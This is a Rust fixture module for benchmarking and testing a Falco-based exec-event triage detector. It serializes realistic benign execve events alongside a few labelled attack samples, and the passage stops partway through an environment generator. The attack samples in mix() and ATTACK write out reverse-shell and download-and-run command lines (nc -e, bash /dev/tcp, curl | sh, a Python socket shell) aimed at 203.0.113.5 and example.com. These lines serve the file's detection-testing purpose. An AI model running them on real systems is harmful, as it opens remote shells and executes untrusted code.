//! The execs the hot path is measured on, defined once for the criterion benches, the
//! `falco-triage bench` command, the profiling example, the soak and the runner tests.
//!
//! [`mix`] is a small representative mix (benign majority, a few attacks); [`classes`] has
//! one sample per stress class (benign, reverse shell, long `sh -c` pipeline, ~1 MiB argv,
//! 10k-stage pipeline). Every sample is a real serialized execve exit event, so decode, the
//! analysis and the plugin all see the same bytes.
//!
//! Not here: labels or expected verdicts (the labelled corpus lives with the tests), timing.

use crate::analysis::{Ancestor, Lineage};
use crate::facts::{self, DecodeLimits, ExecFacts};
use falco_event::events::{Event, EventMetadata, EventToBytes, RawEvent};
use falco_event::types::{Fd, Gid, Pid, SyscallResult, SystemTime, Uid};
use falco_event_schema::events::{
    PPME_SYSCALL_EXECVEAT_X, PPME_SYSCALL_EXECVE_19_X, PPME_SYSCALL_OPEN_X,
};
use falco_event_schema::fields::types::{PT_FLAGS32_execve_flags, PT_FLAGS32_file_flags};
use std::ffi::CString;
use typed_path::UnixPath;

/// A full docker container id, in the cgroups of the container samples.
pub const CONTAINER_ID: &str = "3f5e1e9a4b2c7d8e9f00112233445566778899aabbccddeeff00112233445566";

/// An exec exit event of type `$event` (execve's and execveat's parameters are the same) with
/// every parameter absent.
macro_rules! empty_exec_exit {
    ($event:ident) => {
        $event {
            res: None,
            exe: None,
            args: None,
            tid: None,
            pid: None,
            ptid: None,
            cwd: None,
            fdlimit: None,
            pgft_maj: None,
            pgft_min: None,
            vm_size: None,
            vm_rss: None,
            vm_swap: None,
            comm: None,
            cgroups: None,
            env: None,
            tty: None,
            vpgid: None,
            loginuid: None,
            flags: None,
            cap_inheritable: None,
            cap_permitted: None,
            cap_effective: None,
            exe_ino: None,
            exe_ino_ctime: None,
            exe_ino_mtime: None,
            uid: None,
            trusted_exepath: None,
            pgid: None,
            gid: None,
        }
    };
}

/// An execve exit event with every parameter absent, as an old or cut capture gives it
/// (the schema type has no `Default`); tests set the parameters they need.
pub fn empty_execve<'a>() -> PPME_SYSCALL_EXECVE_19_X<'a> {
    empty_exec_exit!(PPME_SYSCALL_EXECVE_19_X)
}

/// [`empty_execve`] for execveat.
pub fn empty_execveat<'a>() -> PPME_SYSCALL_EXECVEAT_X<'a> {
    empty_exec_exit!(PPME_SYSCALL_EXECVEAT_X)
}

/// An execve exit event to serialize: the parameters that vary, with realistic values for the
/// rest (see [`ExecEvent::to_bytes`]).
#[derive(Debug, Clone)]
pub struct ExecEvent {
    pub ts: u64,
    /// The syscall's result: 0, or a negative errno for a failed attempt.
    pub res: i64,
    pub tid: i64,
    pub ptid: i64,
    /// argv[0] as the kernel reports it (the `exe` parameter).
    pub exe: CString,
    /// argv[1..], each NUL-terminated.
    pub args: Vec<u8>,
    pub comm: CString,
    pub trusted_exepath: String,
    pub cwd: CString,
    /// `subsys=path` entries, each NUL-terminated.
    pub cgroups: Vec<u8>,
    pub env: Vec<u8>,
    pub tty: u32,
    pub flags: u32,
    pub cap_effective: u64,
    pub uid: u32,
    /// u32::MAX: no login session (as the kernel reports an unset loginuid).
    pub loginuid: u32,
}

/// Docker's default effective capability set.
const DOCKER_DEFAULT_CAPS: u64 = 0xa80425fb;

fn nul_joined<S: AsRef<str>>(items: &[S]) -> Vec<u8> {
    let mut out = Vec::new();
    for item in items {
        out.extend_from_slice(item.as_ref().as_bytes());
        out.push(0);
    }
    out
}

/// A C string of `s`, cut at the first NUL (our own literals have none).
fn c_string(s: &str) -> CString {
    let bytes = s.as_bytes();
    let end = bytes.iter().position(|&b| b == 0).unwrap_or(bytes.len());
    CString::new(&bytes[..end]).unwrap_or_default()
}

fn docker_cgroups() -> Vec<u8> {
    format!("cpuset=/docker/{CONTAINER_ID}\0memory=/docker/{CONTAINER_ID}\0").into_bytes()
}

impl ExecEvent {
    /// A root exec of `exe_path` with `argv` (argv[0] included), on the host, no terminal.
    pub fn new(ts: u64, tid: i64, ptid: i64, exe_path: &str, argv: &[&str]) -> Self {
        let argv0 = argv.first().copied().unwrap_or(exe_path);
        let comm = argv0.rsplit('/').next().unwrap_or(argv0);
        let comm: String = comm.chars().take(15).collect();
        ExecEvent {
            ts,
            res: 0,
            tid,
            ptid,
            exe: c_string(argv0),
            args: nul_joined(argv.get(1..).unwrap_or_default()),
            comm: c_string(&comm),
            trusted_exepath: exe_path.to_string(),
            cwd: c"/root".to_owned(),
            cgroups: b"cpuset=/\0memory=/user.slice\0".to_vec(),
            env: b"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\0HOME=/root\0"
                .to_vec(),
            tty: 0,
            flags: 0,
            cap_effective: u64::MAX >> 23, // all 41 capabilities: root on the host
            uid: 0,
            loginuid: u32::MAX,
        }
    }

    /// The same exec inside a docker container (default capabilities), the binary shipped
    /// in the image.
    pub fn in_docker(mut self) -> Self {
        self.cgroups = docker_cgroups();
        self.flags = 0b1001; // EXE_WRITABLE | EXE_LOWER_LAYER
        self.cap_effective = DOCKER_DEFAULT_CAPS;
        self
    }

    /// `nc -e /bin/sh example.com 22` in a docker container, from a terminal, root, with
    /// CAP_SYS_ADMIN added, nc shipped in the image.
    pub fn nc(ts: u64, tid: i64, ptid: i64) -> Self {
        let mut nc = ExecEvent::new(
            ts,
            tid,
            ptid,
            "/usr/bin/nc.openbsd",
            &["nc", "-e", "/bin/sh", "example.com", "22"],
        )
        .in_docker();
        nc.env = b"PATH=/usr/bin\0HOME=/root\0".to_vec();
        nc.tty = 34816;
        nc.cap_effective = DOCKER_DEFAULT_CAPS | 1 << 21;
        nc
    }

    /// The serialized event, as a driver or capture would hand it over. Parameters longer
    /// than an event can carry (u16 lengths) are cut after their last whole entry.
    pub fn to_bytes(&self) -> Vec<u8> {
        let params = PPME_SYSCALL_EXECVE_19_X {
            res: Some(SyscallResult(self.res)),
            exe: Some(&self.exe),
            args: Some(fit(&self.args)),
            tid: Some(Pid(self.tid)),
            pid: Some(Pid(self.tid)),
            ptid: Some(Pid(self.ptid)),
            cwd: Some(&self.cwd),
            fdlimit: Some(1024),
            pgft_maj: Some(0),
            pgft_min: Some(120),
            vm_size: Some(2400),
            vm_rss: Some(900),
            vm_swap: Some(0),
            comm: Some(&self.comm),
            cgroups: Some(fit(&self.cgroups)),
            env: Some(fit(&self.env)),
            tty: Some(self.tty),
            vpgid: Some(Pid(self.tid)),
            loginuid: Some(Uid(self.loginuid)),
            flags: Some(PT_FLAGS32_execve_flags::from_bits_retain(self.flags)),
            cap_inheritable: Some(0),
            cap_permitted: Some(self.cap_effective),
            cap_effective: Some(self.cap_effective),
            exe_ino: Some(131_090),
            exe_ino_ctime: Some(SystemTime(1_700_000_000_000_000_000)),
            exe_ino_mtime: Some(SystemTime(1_690_000_000_000_000_000)),
            uid: Some(Uid(self.uid)),
            trusted_exepath: Some(UnixPath::new(&self.trusted_exepath)),
            pgid: Some(Pid(self.tid)),
            gid: Some(Gid(0)),
        };
        serialize(Event {
            metadata: EventMetadata {
                ts: self.ts,
                tid: self.tid,
            },
            params,
        })
    }
}

/// The longest prefix of NUL-terminated entries that fits a u16 parameter length.
fn fit(list: &[u8]) -> &[u8] {
    const MAX: usize = u16::MAX as usize;
    if list.len() <= MAX {
        return list;
    }
    let end = list[..MAX]
        .iter()
        .rposition(|&b| b == 0)
        .map_or(0, |i| i + 1);
    &list[..end]
}

fn serialize(event: impl EventToBytes) -> Vec<u8> {
    let mut buf = Vec::new();
    // Writing to a Vec cannot fail; an empty buffer would only fail to decode later.
    if event.write(&mut buf).is_err() {
        buf.clear();
    }
    buf
}

/// An `open` exit event: a syscall event the plugin must never analyse.
pub fn open_exit(ts: u64, tid: i64) -> Vec<u8> {
    let params = PPME_SYSCALL_OPEN_X {
        fd: Some(Fd(3)),
        name: Some(UnixPath::new("/etc/passwd")),
        flags: Some(PT_FLAGS32_file_flags::from_bits_retain(1)),
        mode: Some(0),
        dev: Some(0),
        ino: Some(0),
    };
    serialize(Event {
        metadata: EventMetadata { ts, tid },
        params,
    })
}

/// Decode a serialized execve exit event the way the plugin does. `None` when the bytes are
/// not one.
pub fn decode(raw: &[u8], limits: &DecodeLimits) -> Option<ExecFacts> {
    let raw = RawEvent::from(raw).ok()?;
    let event = raw.load::<PPME_SYSCALL_EXECVE_19_X>().ok()?;
    Some(facts::from_execve(&event.params, limits))
}

/// [`decode`] into the facts of an earlier exec, as the plugin decodes each event over the
/// previous one. False when the bytes are not an execve exit event.
pub fn decode_into(raw: &[u8], limits: &DecodeLimits, facts: &mut ExecFacts) -> bool {
    let Ok(raw) = RawEvent::from(raw) else {
        return false;
    };
    let Ok(event) = raw.load::<PPME_SYSCALL_EXECVE_19_X>() else {
        return false;
    };
    facts::execve_into(&event.params, limits, facts);
    true
}

/// One measured exec: its event, and the facts and lineage the analysis gets.
#[derive(Debug, Clone)]
pub struct Sample {
    pub name: &'static str,
    /// Whether the exec is an attack (for the mix's proportions; not a label to test on).
    pub malicious: bool,
    /// The event's parameters, to rebuild it with other thread ids.
    pub spec: ExecEvent,
    pub event: Vec<u8>,
    pub facts: ExecFacts,
    pub lineage: Lineage,
}

fn ancestor(comm: &str, exe: &str, args: &[&str]) -> Ancestor {
    Ancestor {
        comm: comm.to_string(),
        exe: Some(exe.to_string()),
        args: args.iter().map(|a| a.to_string()).collect(),
    }
}

fn lineage(ancestors: Vec<Ancestor>) -> Lineage {
    Lineage {
        known: !ancestors.is_empty(),
        ancestors,
        earlier: None,
    }
}

fn interactive_shell() -> Lineage {
    lineage(vec![
        ancestor("bash", "/usr/bin/bash", &[]),
        ancestor("sshd", "/usr/sbin/sshd", &["-D"]),
        ancestor("systemd", "/usr/lib/systemd/systemd", &[]),
    ])
}

fn container_shell() -> Lineage {
    lineage(vec![
        ancestor("sh", "/bin/sh", &[]),
        ancestor(
            "containerd-shim",
            "/usr/bin/containerd-shim-runc-v2",
            &["-namespace", "moby"],
        ),
        ancestor("systemd", "/usr/lib/systemd/systemd", &[]),
    ])
}

fn web_app() -> Lineage {
    lineage(vec![
        ancestor("node", "/usr/local/bin/node", &["server.js"]),
        ancestor(
            "containerd-shim",
            "/usr/bin/containerd-shim-runc-v2",
            &["-namespace", "moby"],
        ),
    ])
}

fn cron() -> Lineage {
    lineage(vec![
        ancestor("cron", "/usr/sbin/cron", &["-f"]),
        ancestor("systemd", "/usr/lib/systemd/systemd", &[]),
    ])
}

/// A sample whose analysis gets `facts` as given, not decoded from its (possibly cut) event.
fn sample_with_facts(
    name: &'static str,
    malicious: bool,
    event: ExecEvent,
    facts: ExecFacts,
    lineage: Lineage,
) -> Sample {
    let spec = event;
    let event = spec.to_bytes();
    let mut full = decode(&event, &DecodeLimits::default()).unwrap_or_default();
    full.argv = facts.argv;
    full.argv_truncated = false;
    Sample {
        name,
        malicious,
        spec,
        event,
        facts: full,
        lineage,
    }
}

fn sample(
    name: &'static str,
    malicious: bool,
    event: ExecEvent,
    lineage: Lineage,
    limits: &DecodeLimits,
) -> Sample {
    let spec = event;
    let event = spec.to_bytes();
    let facts = decode(&event, limits).unwrap_or_default();
    Sample {
        name,
        malicious,
        spec,
        event,
        facts,
        lineage,
    }
}

/// The representative mix: 16 benign execs and 4 attacks, host and container, decoded with
/// the plugin's default limits.
pub fn mix() -> Vec<Sample> {
    let limits = DecodeLimits::default();
    let host = |argv: &[&str], exe: &str| ExecEvent::new(1, 4242, 4200, exe, argv);
    let docker = |argv: &[&str], exe: &str| ExecEvent::new(1, 4242, 4200, exe, argv).in_docker();
    let benign = |name, ev, lin| sample(name, false, ev, lin, &limits);
    let attack = |name, ev, lin| sample(name, true, ev, lin, &limits);
    let interactive = |mut ev: ExecEvent| {
        ev.tty = 34816;
        ev
    };
    vec![
        benign("ls", interactive(host(&["ls", "-la", "/var/log"], "/usr/bin/ls")), interactive_shell()),
        benign("git status", interactive(host(&["git", "status", "--short"], "/usr/bin/git")), interactive_shell()),
        benign("cat os-release", host(&["cat", "/etc/os-release"], "/usr/bin/cat"), interactive_shell()),
        benign("grep", interactive(host(&["grep", "-rn", "TODO", "src/"], "/usr/bin/grep")), interactive_shell()),
        benign("ps", host(&["ps", "aux"], "/usr/bin/ps"), interactive_shell()),
        benign("systemctl", host(&["systemctl", "status", "ssh"], "/usr/bin/systemctl"), interactive_shell()),
        benign("cron date", host(&["sh", "-c", "date +%s >> /var/log/heartbeat"], "/usr/bin/dash"), cron()),
        benign("logrotate", host(&["/usr/sbin/logrotate", "/etc/logrotate.conf"], "/usr/sbin/logrotate"), cron()),
        benign("healthcheck", docker(&["curl", "-fsS", "http://localhost:8080/healthz"], "/usr/bin/curl"), container_shell()),
        benign("java", docker(&["java", "-Xmx512m", "-jar", "/app/app.jar"], "/opt/java/openjdk/bin/java"), container_shell()),
        benign("node", docker(&["node", "server.js"], "/usr/local/bin/node"), container_shell()),
        benign("nginx", docker(&["nginx", "-g", "daemon off;"], "/usr/sbin/nginx"), container_shell()),
        benign("apt-get", docker(&["apt-get", "install", "-y", "--no-install-recommends", "ca-certificates"], "/usr/bin/apt-get"), container_shell()),
        benign("tar", host(&["tar", "xzf", "/backup/2024-06-01.tgz", "-C", "/srv"], "/usr/bin/tar"), cron()),
        benign("sh -c ps pipeline", host(&["sh", "-c", "ps aux | grep -v grep | grep nginx | wc -l"], "/usr/bin/dash"), cron()),
        benign("python manage", docker(&["python3", "manage.py", "migrate", "--noinput"], "/usr/bin/python3.11"), container_shell()),
        attack("nc -e", ExecEvent::nc(1, 4242, 4200), container_shell()),
        attack("bash /dev/tcp", docker(&["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"], "/usr/bin/bash"), web_app()),
        attack("curl | sh", docker(&["sh", "-c", "curl -fsSL http://203.0.113.5/x.sh | sh"], "/bin/dash"), web_app()),
        attack(
            "python reverse shell",
            docker(
                &["python3", "-c", "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"203.0.113.5\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call([\"/bin/sh\",\"-i\"])"],
                "/usr/bin/python3.11",
            ),
            web_app(),
        ),
    ]
}

/// One parent of a realistic exec, as the `threads` table holds it: comm, executable, and
/// the arguments after argv[0].
pub type Parent = (&'static str, &'static str, &'static [&'static str]);

const SYSTEMD: Parent = ("systemd", "/usr/lib/systemd/systemd", &[]);
const SSHD: Parent = ("sshd", "/usr/sbin/sshd", &["-D"]);
/// An interactive login shell (`-bash`: argv[0] only).
const LOGIN: Parent = ("bash", "/usr/bin/bash", &[]);

/// The shell running a workload script of `scripts/workloads/` (`bash NAME.sh run`), as the
/// recordings' parents show it.
macro_rules! workload_script {
    ($name:literal) => {
        (
            "bash",
            "/usr/bin/bash",
            &[
                concat!(
                    "/home/dev/src/falco-triage/scripts/workloads/",
                    $name,
                    ".sh"
                ),
                "run",
            ],
        )
    };
}

/// One exec of a realistic workload: argv (argv[0] included), the executable, the working
/// directory, the effective uid and the parents nearest first. The benign ones are rows of
/// the recorded real work in `tests/corpus/recorded/` (the row is named), with the parents'
/// comms of the row given their executables and arguments.
#[derive(Debug, Clone, Copy)]
pub struct RealisticExec {
    pub name: &'static str,
    pub malicious: bool,
    pub argv: &'static [&'static str],
    pub exe: &'static str,
    pub cwd: &'static str,
    pub uid: u32,
    pub in_docker: bool,
    pub parents: &'static [Parent],
}

const fn recorded(
    name: &'static str,
    argv: &'static [&'static str],
    exe: &'static str,
    cwd: &'static str,
    parents: &'static [Parent],
) -> RealisticExec {
    RealisticExec {
        name,
        malicious: false,
        argv,
        exe,
        cwd,
        uid: 0,
        in_docker: false,
        parents,
    }
}

const ADMIN_SH: Parent = workload_script!("admin-work");
const APT_SH: Parent = workload_script!("apt-install-remove");
const APT_GET: Parent = (
    "apt-get",
    "/usr/bin/apt-get",
    &["install", "-y", "figlet", "sl", "tree"],
);
const DPKG: Parent = (
    "dpkg",
    "/usr/bin/dpkg",
    &[
        "--status-fd",
        "37",
        "--no-triggers",
        "--unpack",
        "--auto-deconfigure",
        "/var/cache/apt/archives/figlet_2.2.5-3+b1_amd64.deb",
    ],
);
const CARGO_SH: Parent = workload_script!("cargo-build-tmp");
const CARGO: Parent = (
    "cargo",
    "/home/dev/.cargo/bin/cargo",
    &["build", "--release"],
);
const RUSTC: Parent = (
    "rustc",
    "/home/dev/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/rustc",
    &[
        "--crate-name",
        "build_script_build",
        "--edition=2021",
        "build.rs",
        "--crate-type",
        "bin",
        "--emit=dep-info,link",
        "-C",
        "opt-level=3",
    ],
);
const ENTRY_SH: Parent = workload_script!("entrypoint-probes");
const ENTRYPOINT: Parent = (
    "docker-entrypoi",
    "/tmp/rec-entry/docker-entrypoint.sh",
    &["app"],
);
const GIT_SH: Parent = workload_script!("git-hooks");
const GIT: Parent = (
    "git",
    "/usr/local/bin/git",
    &["commit", "-q", "-m", "feat: add build script"],
);
const PRE_COMMIT: Parent = ("pre-commit", "/tmp/rec-git/repo/.git/hooks/pre-commit", &[]);
const GO_SH: Parent = workload_script!("go-build");
const GO: Parent = ("go", "/usr/bin/go", &["test", "./..."]);
const NPM_SH: Parent = workload_script!("npm-install-scripts");
const NODE_NPM: Parent = (
    "node",
    "/usr/bin/node",
    &[
        "/usr/bin/npm",
        "install",
        "--no-audit",
        "--no-fund",
        "esbuild",
        "../hooks-pkg",
    ],
);
const PIP_SH: Parent = workload_script!("pip-sdist");
const PYTHON: Parent = (
    "python3",
    "/home/dev/.pyenv/versions/3.11.7/bin/python3.11",
    &["-m", "pip", "install", "."],
);

/// The plain benign exec of [`realistic`]: `ls -la /etc` from an admin's script.
const PLAIN: RealisticExec = recorded(
    "admin-work-0002",
    &["ls", "-la", "/etc"],
    "/usr/bin/ls",
    "/home/dev",
    &[ADMIN_SH, LOGIN, SSHD, SYSTEMD],
);

/// The mix of [`realistic`]: three rows of each recorded workload.
const RECORDED_MIX: &[RealisticExec] = &[
    PLAIN,
    recorded("admin-work-0013", &["systemctl", "status", "--no-pager", "cron"], "/usr/bin/systemctl", "/home/dev", &[ADMIN_SH, LOGIN, SSHD, SYSTEMD]),
    recorded("admin-work-0010", &["ip", "addr"], "/usr/sbin/ip", "/home/dev", &[ADMIN_SH, LOGIN, SSHD, SYSTEMD]),
    recorded("apt-install-remove-0003", &["/usr/bin/dpkg", "--print-foreign-architectures"], "/usr/bin/dpkg", "/home/dev", &[APT_GET, APT_SH, LOGIN, SSHD, SYSTEMD]),
    recorded("apt-install-remove-0017", &["dpkg-deb", "--control", "/var/cache/apt/archives/figlet_2.2.5-3+b1_amd64.deb", "/var/lib/dpkg/tmp.ci"], "/usr/bin/dpkg-deb", "/", &[DPKG, APT_GET, APT_SH, LOGIN, SSHD, SYSTEMD]),
    recorded("apt-install-remove-0024", &["rm", "-rf", "--", "/var/lib/dpkg/tmp.ci"], "/usr/bin/rm", "/", &[DPKG, APT_GET, APT_SH, LOGIN, SSHD, SYSTEMD]),
    recorded(
        "cargo-build-tmp-0806",
        &["/home/dev/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/rustc", "--crate-name", "quote_use", "--edition=2021", "/home/dev/.cargo/registry/src/index.crates.io-1949cf8c6b5b557f/quote-use-0.8.4/src/lib.rs", "--error-format=json", "--json=diagnostic-rendered-ansi,artifacts,future-incompat", "--crate-type", "lib", "--emit=dep-info,metadata,link", "-C", "embed-bitcode=no", "--check-cfg", "cfg(docsrs,test)", "--check-cfg", "cfg(feature, values(\"syn\"))", "-C", "metadata=2f844c6bde2477b2", "-C", "extra-filename=-c42664ba0027d122", "--out-dir"],
        "/home/dev/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/rustc",
        "/home/dev/.cargo/registry/src/index.crates.io-1949cf8c6b5b557f/quote-use-0.8.4",
        &[CARGO, CARGO_SH, LOGIN, SSHD, SYSTEMD],
    ),
    recorded(
        "cargo-build-tmp-0017",
        &["cc", "-m64", "/tmp/build/falco-triage/target/release/build/quote-a021c4b4abb56ff8/rustc5BJFsW/symbols.o", "/tmp/build/falco-triage/target/release/build/quote-a021c4b4abb56ff8/build_script_build-a021c4b4abb56ff8.build_script_build.59e750e5ca019a74-cgu.0.rcgu.o", "/tmp/build/falco-triage/target/release/build/quote-a021c4b4abb56ff8/build_script_build-a021c4b4abb56ff8.dqsmgvghqb5xmu2wbvokmznhq.rcgu.o", "-Wl,--as-needed", "-Wl,-Bstatic"],
        "/usr/bin/cc",
        "/home/dev/.cargo/registry/src/index.crates.io-1949cf8c6b5b557f/quote-1.0.47",
        &[RUSTC, CARGO, CARGO_SH, LOGIN, SSHD, SYSTEMD],
    ),
    recorded("cargo-build-tmp-0004", &["/home/dev/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/rustc", "-vV"], "/home/dev/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/rustc", "/tmp/build/falco-triage", &[CARGO, CARGO_SH, LOGIN, SSHD, SYSTEMD]),
    recorded("entrypoint-probes-0004", &["envsubst", "${PORT} ${SERVER_NAME}"], "/usr/bin/envsubst", "/tmp/rec-entry", &[ENTRYPOINT, ENTRY_SH, LOGIN, SSHD, SYSTEMD]),
    recorded("entrypoint-probes-0068", &["nc", "-z", "127.0.0.1", "18080"], "/usr/bin/nc", "/tmp/rec-entry", &[ENTRY_SH, LOGIN, SSHD, SYSTEMD]),
    recorded("entrypoint-probes-0023", &["sh", "-c", "cat /tmp/rec-entry/etc/app.conf >/dev/null; echo app started"], "/usr/bin/sh", "/tmp/rec-entry", &[ENTRY_SH, LOGIN, SSHD, SYSTEMD]),
    recorded("git-hooks-0002", &["git", "init", "-q", "-b", "main", "repo"], "/usr/local/bin/git", "/tmp/rec-git", &[GIT_SH, LOGIN, SSHD, SYSTEMD]),
    recorded("git-hooks-0012", &["grep", "\\.sh$"], "/usr/bin/grep", "/tmp/rec-git/repo", &[PRE_COMMIT, PRE_COMMIT, GIT, GIT_SH, LOGIN, SSHD, SYSTEMD]),
    recorded("git-hooks-0019", &["sh", "-n", "build.sh"], "/usr/bin/sh", "/tmp/rec-git/repo", &[PRE_COMMIT, GIT, GIT_SH, LOGIN, SSHD, SYSTEMD]),
    recorded("go-build-0005", &["/usr/lib/go-1.19/pkg/tool/linux_amd64/compile", "-V=full"], "/usr/lib/go-1.19/pkg/tool/linux_amd64/compile", "/tmp/rec-go", &[GO, GO_SH, LOGIN, SSHD, SYSTEMD]),
    recorded("go-build-0118", &["/tmp/go-build4200272538/b001/hello.test", "-test.testlogfile=/tmp/go-build4200272538/b001/testlog.txt", "-test.paniconexit0", "-test.timeout=10m0s"], "/tmp/go-build4200272538/b001/hello.test", "/tmp/rec-go", &[GO, GO_SH, LOGIN, SSHD, SYSTEMD]),
    recorded("go-build-0002", &["go", "mod", "init", "example.com/hello"], "/usr/bin/go", "/tmp/rec-go", &[GO_SH, LOGIN, SSHD, SYSTEMD]),
    recorded("npm-install-scripts-0025", &["sh", "-c", "node install.js"], "/usr/bin/sh", "/tmp/rec-npm/app/node_modules/esbuild", &[NODE_NPM, NPM_SH, LOGIN, SSHD, SYSTEMD]),
    recorded("npm-install-scripts-0027", &["/tmp/rec-npm/app/node_modules/esbuild/bin/esbuild", "--version"], "/tmp/rec-npm/app/node_modules/esbuild/bin/esbuild", "/tmp/rec-npm/app/node_modules/esbuild", &[NODE_NPM, NPM_SH, LOGIN, SSHD, SYSTEMD]),
    recorded("npm-install-scripts-0084", &["rm", "-rf", "node_modules"], "/usr/bin/rm", "/tmp/rec-npm/app", &[NPM_SH, LOGIN, SSHD, SYSTEMD]),
    recorded("pip-sdist-0002", &["python3", "-m", "venv", "venv"], "/home/dev/.pyenv/shims/python3", "/tmp/rec-pip", &[PIP_SH, LOGIN, SSHD, SYSTEMD]),
    recorded("pip-sdist-0224", &["lsb_release", "-a"], "/usr/bin/lsb_release", "/tmp/rec-pip/venv", &[PYTHON, PIP_SH, LOGIN, SSHD, SYSTEMD]),
    recorded("pip-sdist-0175", &["basename", "/home/dev/.pyenv/versions/3.11.7"], "/usr/bin/basename", "/tmp/rec-pip", &[PIP_SH, LOGIN, SSHD, SYSTEMD]),
];

/// The attack of [`realistic`] (not recorded): a reverse shell spawned by a web application
/// in a container.
const ATTACK: RealisticExec = RealisticExec {
    name: "bash /dev/tcp from a web app",
    malicious: true,
    argv: &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"],
    exe: "/usr/bin/bash",
    cwd: "/app",
    uid: 33,
    in_docker: true,
    // The walk stops at the container's init (vpid 1), as in Falco.
    parents: &[
        ("node", "/usr/local/bin/node", &["/app/server.js"]),
        ("tini", "/usr/bin/tini", &["--", "node", "/app/server.js"]),
    ],
};

/// The environment of a realistic exec: what a login shell with a developer's tools passes
/// on, 40-60 variables, 2-4 KiB, a long PATH, a `LS_COLORS` over 1 KiB and a few bytes that
/// are not UTF-8 (a Latin-1 directory name). Generated, varied by `seed`, so every exec of a
/// mix does not carry the same bytes.
pub fn realistic_env(seed: usize) -> Vec<u8> {
    const TOOLS: &[&str] = &[
        "/home/dev/.cargo/bin",
        "/home/dev/.local/bin",
        "/home/dev/.pyenv/shims",
        "/home/dev/.pyenv/bin",
        "/home/dev/.nvm/versions/node/v20.11.1/bin",
        "/home/dev/go/bin",
        "/usr/local/go/bin",
        "/opt/google-cloud-sdk/bin",
        "/home/dev/.krew/bin",
    ];
    const SYSTEM_PATH: &str = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:/usr/games:/usr/local/games:/snap/bin";
    const EXTENSIONS: &[&str] = &[
        "tar",
        "tgz",
        "arc",
        "arj",
        "taz",
        "lha",
        "lz4",
        "lzh",
        "lzma",
        "tlz",
        "txz",
        "tzo",
        "t7z",
        "zip",
        "z",
        "dz",
        "gz",
        "lrz",
        "lz",
        "lzo",
        "xz",
        "zst",
        "tzst",
        "bz2",
        "bz",
        "tbz",
        "tbz2",
        "tz",
        "deb",
        "rpm",
        "jar",
        "war",
        "ear",
        "sar",
        "rar",
        "alz",
        "ace",
        "zoo",
        "cpio",
        "7z",
        "rz",
        "cab",
        "wim",
        "swm",
        "dwm",
        "esd",
        "avif",
        "jpg",
        "jpeg",
        "mjpg",
        "mjpeg",
        "gif",
        "bmp",
        "pbm",
        "pgm",
        "ppm",
        "tga",
        "xbm",
        "xpm",
        "tif",
        "tiff",
        "png",
        "svg",
        "svgz",
        "mng",
        "pcx",
        "mov",
        "mpg",
        "mpeg",
        "m2v",
        "mkv",
        "webm",
        "webp",
        "ogm",
        "mp4",
        "m4v",
        "mp4v",
        "vob",
        "qt",
        "nuv",
        "wmv",
        "asf",
        "rm",
        "rmvb",
        "flc",
        "avi",
        "fli",
        "flv",
        "gl",
        "dl",
        "xcf",
        "xwd",
        "yuv",
        "cgm",
        "emf",
        "ogv",
        "ogx",
        "aac",
        "au",
        "flac",
        "m4a",
        "mid",
        "midi",
        "mka",
        "mp3",
        "mpc",
        "ogg",
        "ra",
        "wav",
        "oga",
        "opus",
        "spx",
        "xspf",
        "bak",
        "crdownload",
        "dpkg-dist",
        "dpkg-new",
        "dpkg-old",
        "dpkg-tmp",
        "old",
        "orig",
        "part",
        "rej",
        "swp",
        "tmp",
        "ucf-dist",
        "ucf-new",
        "ucf-old",
    ];
    let mut vars: Vec<Vec<u8>> = Vec::new();
    let mut var = |s: String| vars.push(s.into_bytes());
    let tools = 4 + seed % (TOOLS.len() - 3);
    var(format!("PATH={}:{SYSTEM_PATH}", TOOLS[..tools].join(":")));
    let colours = 100 + (seed * 7) % (EXTENSIONS.len() - 100);
    let mut ls_colors = String::from("LS_COLORS=rs=0:di=01;34:ln=01;36:mh=00:pi=40;33:so=01;35:do=01;35:bd=40;33;01:cd=40;33;01:or=40;31;01:mi=00:su=37;41:sg=30;43:ca=00:tw=30;42:ow=34;42:st=37;44:ex=01;32");
    for (i, ext) in EXTENSIONS[..colours].iter().enumerate() {
        ls_colors.push_str(&format!(":*.{ext}=00;{}", 31 + i % 7));
    }
    var(ls_colors);
    for fixed in [
        "SHELL=/bin/bash",
        "HOME=/home/dev",
        "LOGNAME=dev",
        "USER=dev",
        "LANG=en_US.UTF-8",
        "LANGUAGE=en_US:en",
        "TERM=xterm-256color",
        "COLORTERM=truecolor",
        "SHLVL=2",
        "XDG_SESSION_ID=7",
        "XDG_SESSION_TYPE=tty",
        "XDG_SESSION_CLASS=user",
        "XDG_RUNTIME_DIR=/run/user/1000",
        "DBUS_SESSION_BUS_ADDRESS=unix:path=/run/user/1000/bus",
        "XDG_DATA_DIRS=/usr/local/share:/usr/share:/var/lib/snapd/desktop",
        "SSH_CLIENT=192.0.2.10 51514 22",
        "SSH_CONNECTION=192.0.2.10 51514 198.51.100.7 22",
        "SSH_AUTH_SOCK=/tmp/ssh-XXXXq3Jd1k/agent.2211",
        "MAIL=/var/mail/dev",
        "LESSOPEN=| /usr/bin/lesspipe %s",
        "LESSCLOSE=/usr/bin/lesspipe %s %s",
        "EDITOR=vim",
        "VISUAL=vim",
        "PAGER=less",
        "HISTCONTROL=ignoreboth",
        "HISTSIZE=10000",
        "HISTFILESIZE=20000",
        "CARGO_HOME=/home/dev/.cargo",
        "RUSTUP_HOME=/home/dev/.rustup",
        "PYENV_ROOT=/home/dev/.pyenv",
        "NVM_DIR=/home/dev/.nvm",
        "GOPATH=/home/dev/go",
        "JAVA_HOME=/usr/lib/jvm/java-17-openjdk-amd64",
        "KUBECONFIG=/home/dev/.kube/config",
        "GPG_TTY=/dev/pts/0",
        "MOTD_SHOWN=pam",
        "TZ=Europe/Paris",
    ] {
        var(fixed.to_string());
    }
    let optional = [
        "PWD=/home/dev/src/service".to_string(),
        format!("_={}", "/usr/bin/env"),
